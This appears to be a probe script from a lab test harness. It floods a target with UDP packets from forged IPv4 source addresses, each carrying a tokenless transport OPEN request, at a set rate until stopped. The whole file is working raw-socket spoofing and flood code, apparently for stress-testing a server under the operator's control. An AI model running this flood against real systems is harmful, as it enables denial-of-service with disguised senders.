"""Sends OPENs of the transport from forged addresses of a network at a fixed rate until SIGTERM.

    lab.sh probe open-flood ADDRESS PORT PER_SECOND NETWORK PATH COUNT

NETWORK is the first three numbers of an IPv4 network. Each OPEN requests PATH, in which %d is replaced by
a number below COUNT, one after the other. Prints "sent N" at the end.
"""

import itertools
import signal
import socket
import struct
import sys
import time

from lab import UsageError

PAUSE_S = 0.01
OPEN_BYTES = 1232


def open_datagram(echo: int, path: str) -> bytes:
    """An OPEN without a token that begins a stream."""
    request = f"GET {path} HTTP/1.1\r\nHost: h\r\n\r\n".encode()
    head = struct.pack("!BBQHBB", 0x10, 1, echo, 1472, 1, 0)
    datagram = head + bytes(6) + struct.pack("!BH", 1, len(request)) + request
    return datagram.ljust(OPEN_BYTES, b"\0")


def packet(source: bytes, target: bytes, from_port: int, port: int, payload: bytes) -> bytes:
    """A packet without a UDP checksum; the kernel fills in length and checksum of the IP header."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0, source, target)
    return ip + struct.pack("!HHHH", from_port, port, 8 + len(payload), 0) + payload


def main(words: list[str]) -> None:
    match words:
        case [address, port, rate, network, path, count]:
            raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
            target = socket.inet_aton(address)
            sent = 0

            def end(*_: object) -> None:
                print(f"sent {sent}", flush=True)
                sys.exit(0)

            signal.signal(signal.SIGTERM, end)
            begun = time.monotonic()
            for turn in itertools.count(1):
                while sent < turn * PAUSE_S * int(rate):
                    source = socket.inet_aton(f"{network}.{2 + sent % 98}")
                    payload = open_datagram(sent, path.replace("%d", str(sent % int(count))))
                    forged = packet(source, target, 1024 + sent % 60000, int(port), payload)
                    raw.sendto(forged, (address, 0))
                    sent += 1
                time.sleep(max(0.0, begun + turn * PAUSE_S - time.monotonic()))
        case _:
            raise UsageError
